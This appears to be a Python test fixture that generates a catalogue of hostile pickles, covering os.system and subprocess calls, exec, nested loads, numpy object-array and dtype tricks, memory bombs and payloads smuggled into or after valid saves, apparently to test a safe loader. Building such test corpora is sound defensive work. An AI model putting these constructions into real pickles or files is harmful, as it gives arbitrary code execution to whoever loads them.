"""Pickles that would do something to whoever reads them with `pickle`, by technique.

Those of VALUES are opcodes that leave one value, so that they can also stand within a save; those
of WHOLE are pickles from beginning to end.
"""

import codecs
import pickle
import pickletools
import struct
from typing import Any

import numpy as np
from registry_helpers import plain

from digitnet.registry.codec import encode, seal
from digitnet.registry.schema import to_document

MARKER = "ran"
SHELL = f"touch {MARKER}"
CODE = f"open({MARKER!r}, 'w')"
PROTO = b"\x80\x03"


def value(thing: Any) -> bytes:
    """The opcodes of a plain value, or those given."""
    if isinstance(thing, Raw):
        return thing.raw
    return pickletools.optimize(pickle.dumps(thing, 3))[2:-1]


class Raw:
    def __init__(self, raw: bytes) -> None:
        self.raw = raw


def name_of(dotted: str) -> bytes:
    """GLOBAL: the thing called so, as in `os:system`."""
    module, name = dotted.split(":")
    return f"c{module}\n{name}\n".encode()


def stacked(dotted: str) -> bytes:
    """STACK_GLOBAL: the same by two strings, where the name may have dots."""
    module, name = (value(part) for part in dotted.split(":"))
    return module + name + b"\x93"


def arguments(*things: Any) -> bytes:
    return b"(" + b"".join(map(value, things)) + b"t"


def call(what: bytes, *things: Any) -> bytes:
    """REDUCE: calls it with these arguments."""
    return what + arguments(*things) + b"R"


SYSTEM = name_of("os:system")
ATTACK = call(SYSTEM, SHELL)

CALLS: dict[str, tuple[Any, ...]] = {
    "os:system": (SHELL,),
    "builtins:exec": (CODE,),
    "builtins:__import__": ("antigravity",),
    "builtins:bytearray": (1 << 40,),
    "subprocess:Popen": (["touch", MARKER],),
    "os:_exit": (0,),
    "socket:create_connection": (("localhost", 1),),
    "functools:partial": (Raw(SYSTEM), SHELL),
    "collections:OrderedDict": ([("name", "x")],),
    "decimal:Decimal": ("1e999999999",),
    "numpy:load": (MARKER, None, True),
    "digitnet.registry.saves:Registry": (MARKER,),
}
"""What is called with what, by REDUCE: of each kind of harm, and of our own code."""


DTYPES = ("O", "O8", "f8,O", "V2147483647", "V0", "U536870911", "M8[ns]", "(2147483647,)f8", ">f4")


def array(module: str, dtype: str, shape: tuple[int, ...], data: Any) -> bytes:
    """An array as numpy itself pickles it, with its dtype as it likes."""
    kind = call(name_of("numpy:dtype"), dtype, False, True)
    kind += arguments(3, "|", None, None, None, -1, -1, 63) + b"b"
    made = call(name_of(f"{module}:_reconstruct"), Raw(name_of("numpy:ndarray")), (0,), b"b")
    return made + arguments(1, shape, Raw(kind), False, data) + b"b"


VALUES: dict[str, bytes] = {
    **{f"REDUCE {name}": call(name_of(name), *given) for name, given in CALLS.items()},
    "GLOBAL alone": SYSTEM,
    "GLOBAL of a submodule": call(name_of("os.path:os.system"), SHELL),
    "STACK_GLOBAL": call(stacked("os:system"), SHELL),
    "STACK_GLOBAL, no call": stacked("os:system"),
    "dotted, through a module": call(stacked("digitnet.registry.saves:os.system"), SHELL),
    "dotted, through a class": call(stacked("pathlib:Path.touch"), MARKER),
    "dotted, through dunders": stacked("builtins:object.__subclasses__.__self__"),
    "STACK_GLOBAL by the memo": call(
        value("os") + b"\x940" + value("system") + b"\x940h\x00h\x01\x93", SHELL
    ),
    "INST": b"(" + value(SHELL) + b"ios\nsystem\n",
    "INST of a class": b"(" + value(["touch", MARKER]) + b"isubprocess\nPopen\n",
    "OBJ": b"(" + SYSTEM + value(SHELL) + b"o",
    "OBJ of a class": b"(" + name_of("subprocess:Popen") + value(["touch", MARKER]) + b"o",
    "NEWOBJ": name_of("subprocess:Popen") + arguments(["touch", MARKER]) + b"\x81",
    "NEWOBJ of a type": name_of("builtins:type") + arguments("T", (), {}) + b"\x81",
    "NEWOBJ_EX": name_of("builtins:bytearray") + arguments(9) + b"}\x92",
    "BUILD of a state": call(name_of("threading:Thread")) + value({"_target": 1}) + b"b",
    "BUILD of slots": name_of("threading:Thread") + arguments(None, {"run": 1}) + b"b",
    "BUILD of __setstate__": name_of("os:_wrap_close")
    + value({})[:-1] + b"}(" + value("__setstate__") + SYSTEM + b"ub" + value(SHELL) + b"b",
    "called by SETITEMS": call(name_of("collections:UserDict")) + b"(" + value(1) * 2 + b"u",
    "called by APPENDS": call(name_of("os:_Environ")) + b"(" + value(1) + b"e",
    "called by ADDITEMS": name_of("builtins:set") + b"(" + value(1) + b"\x90",
    "memo PUT and GET": SYSTEM + b"p9\n0g9\n" + arguments(SHELL) + b"R",
    "memo BINPUT and BINGET": SYSTEM + b"q\x090h\x09" + arguments(SHELL) + b"R",
    "memo LONG_BINPUT": SYSTEM + b"r\x09\0\0\x000j\x09\0\0\0" + arguments(SHELL) + b"R",
    "memo written twice": b"Nq\x000" + SYSTEM + b"q\x000h\x00" + arguments(SHELL) + b"R",
    "DUP": SYSTEM + b"20" + arguments(SHELL) + b"R",
    "POP hides the call": ATTACK + b"0N",
    "POP_MARK hides the call": b"(" + ATTACK + b"1N",
    "a call in a list": b"](" + ATTACK + b"e",
    "a call in a tuple": ATTACK + b"\x85",
    "a call in a frozenset": b"(" + ATTACK + b"\x91",
    "a call as a key": b"}" + ATTACK + b"Ns",
    "a call as a value": b"}(" + value("x") + ATTACK + b"u",
    "a call within a call": call(SYSTEM, Raw(call(name_of("builtins:str"), SHELL))),
    "FRAME around a call": b"\x95" + struct.pack("<Q", len(ATTACK)) + ATTACK,
    "PROTO in the middle": b"\x80\x04" + call(stacked("os:system"), SHELL),
    "arguments by LONG and STRING": SYSTEM + f"(S'{SHELL}'\ntR".encode(),
    "arguments by UNICODE": SYSTEM + f"(V{SHELL}\ntR".encode(),
    "arguments by BINSTRING": SYSTEM + b"(T" + struct.pack("<I", 9) + SHELL.encode() + b"tR",
    "arguments by TUPLE1": SYSTEM + value(SHELL) + b"\x85R",
    "UTF-7 in a name": call(b"c+AG8-s\nsystem\n", SHELL),
    "a nested pickle": call(name_of("pickle:loads"), PROTO + ATTACK + b"."),
    "a nested nested pickle": call(
        name_of("_pickle:loads"),
        PROTO + call(name_of("pickle:loads"), PROTO + ATTACK + b".") + b".",
    ),
    "an array of objects": array("numpy.core.multiarray", "O", (1,), [codecs.encode]),
    "a numpy scalar": call(
        name_of("numpy.core.multiarray:scalar"), Raw(call(name_of("numpy:dtype"), "O")), b"x" * 8
    ),
    "numpy _frombuffer": call(name_of("numpy._core.numeric:_frombuffer"), b"x", "O", (1,), "C"),
    **{
        f"numpy {module} {dtype} {shape}": array(module, dtype, shape, data)
        for module in ("numpy.core.multiarray", "numpy._core.multiarray")
        for dtype in DTYPES
        for shape, data in (((1,), b"x" * 8), ((1 << 31, 1 << 31), b""), ((-1,), b"x"))
    },
}  # fmt: skip

INERT: dict[str, bytes] = {
    "EXT1": b"\x82\x01",
    "EXT2": b"\x83\x01\x01",
    "EXT4": b"\x84\x01\x01\x01\x01",
    "EXT1 called": b"\x82\xff" + arguments(SHELL) + b"R",
    "PERSID": f"P{SHELL}\n".encode(),
    "BINPERSID": value(SHELL) + b"Q",
    "NEXT_BUFFER": b"\x97",
    "READONLY_BUFFER": value(b"x") + b"\x98",
    "BUILD of a dict": b"}" + value({"__class__": 1}) + b"b",
    "REDUCE of a string": call(value("os.system"), SHELL),
    "MARK left": b"(N",
    "memo never written": b"h\x07",
    "memo of itself": b"]q\x00h\x00a",
    "a dict that holds itself": b"}q\x00(" + value("x") + b"h\x00u",
    "a tuple that holds itself": b"](h\x00tq\x00",
    "UTF-16 in a name": "cos\x00\nsys\x00tem\n".encode("utf-16"),
    "name of 100,000 letters": b"c" + b"a" * 100_000 + b"\nb\n",
}  # fmt: skip
"""What pickle's own reader refuses or finds harmless, where nobody has taught it to do more."""


class Attack:
    """What `pickle` itself writes for something that wants to be called."""

    def __reduce__(self) -> Any:
        return (__import__("os").system, (SHELL,))


def _dumped(thing: Any) -> dict[str, bytes]:
    return {f"protocol {n}": pickle.dumps(thing, n) for n in range(pickle.HIGHEST_PROTOCOL + 1)}


WHOLE: dict[str, bytes] = {
    **{f"an attack, {name}": data for name, data in _dumped(Attack()).items()},
    **{f"in a dict, {name}": data for name, data in _dumped({"name": Attack()}).items()},
    **{
        f"objects in an array, {name}": data
        for name, data in _dumped(np.array([Attack()], dtype=object)).items()
    },
    **{f"an array, {name}": data for name, data in _dumped(np.ones(3)).items()},
    **{
        f"protocol {number} and a call": bytes([0x80, number]) + ATTACK + b"."
        for number in range(6)
    },
    "no protocol and a call": ATTACK + b".",
    "INST of the first protocol": f"(S'{SHELL}'\nios\nsystem\n.".encode(),
}
"""Whole pickles that run something, or at least look names up."""

DOCUMENT = to_document(plain(), "x")
SAVE = encode(DOCUMENT)

AFTER: dict[str, bytes] = {
    "after STOP, a call": SAVE + ATTACK + b".",
    "after STOP, a pickle": SAVE + PROTO + ATTACK + b".",
    "after STOP, a byte": SAVE + b"\0",
    "before PROTO, a call": ATTACK + b"0" + SAVE,
    "after PROTO, a call": PROTO + ATTACK + b"0" + SAVE[2:],
    "before STOP, a call": SAVE[:-1] + ATTACK + b"0.",
    "protocol 255": b"\x80\xff" + SAVE[2:],
    "protocol 4": b"\x80\x04" + SAVE[2:],
    "framed": b"\x80\x04\x95" + struct.pack("<Q", len(SAVE) - 2) + SAVE[2:],
    "memoised, as pickle writes it": pickle.dumps(DOCUMENT, 3),
    "optimised, as pickletools does": pickletools.optimize(pickle.dumps(DOCUMENT, 4)),
    "in the text of old": pickle.dumps(DOCUMENT, 0),
}
"""Sound saves with something around them that no save has."""


def poisoned(field: str) -> bytes:
    head = b"".join(value(name) + value(DOCUMENT[name]) for name in DOCUMENT if name != field)
    return PROTO + b"}(" + head + value(field) + ATTACK + b"u."


def in_a_save(opcodes: bytes) -> bytes:
    return SAVE[:-2] + value("more") + opcodes + b"u."


TECHNIQUES: dict[str, bytes] = {
    **{name: PROTO + opcodes + b"." for name, opcodes in (VALUES | INERT).items()},
    **WHOLE,
    **AFTER,
    **{f"in the field {field}": poisoned(field) for field in DOCUMENT},
}
"""Every hostile pickle, bare."""


def hostile_files() -> dict[str, bytes]:
    """Every hostile pickle: bare, under a valid footer, and, where it can be, within a save."""
    within = {f"{name}, in a save": in_a_save(raw) for name, raw in (VALUES | INERT).items()}
    sealed = {f"{name}, sealed": seal(data) for name, data in (TECHNIQUES | within).items()}
    return TECHNIQUES | sealed
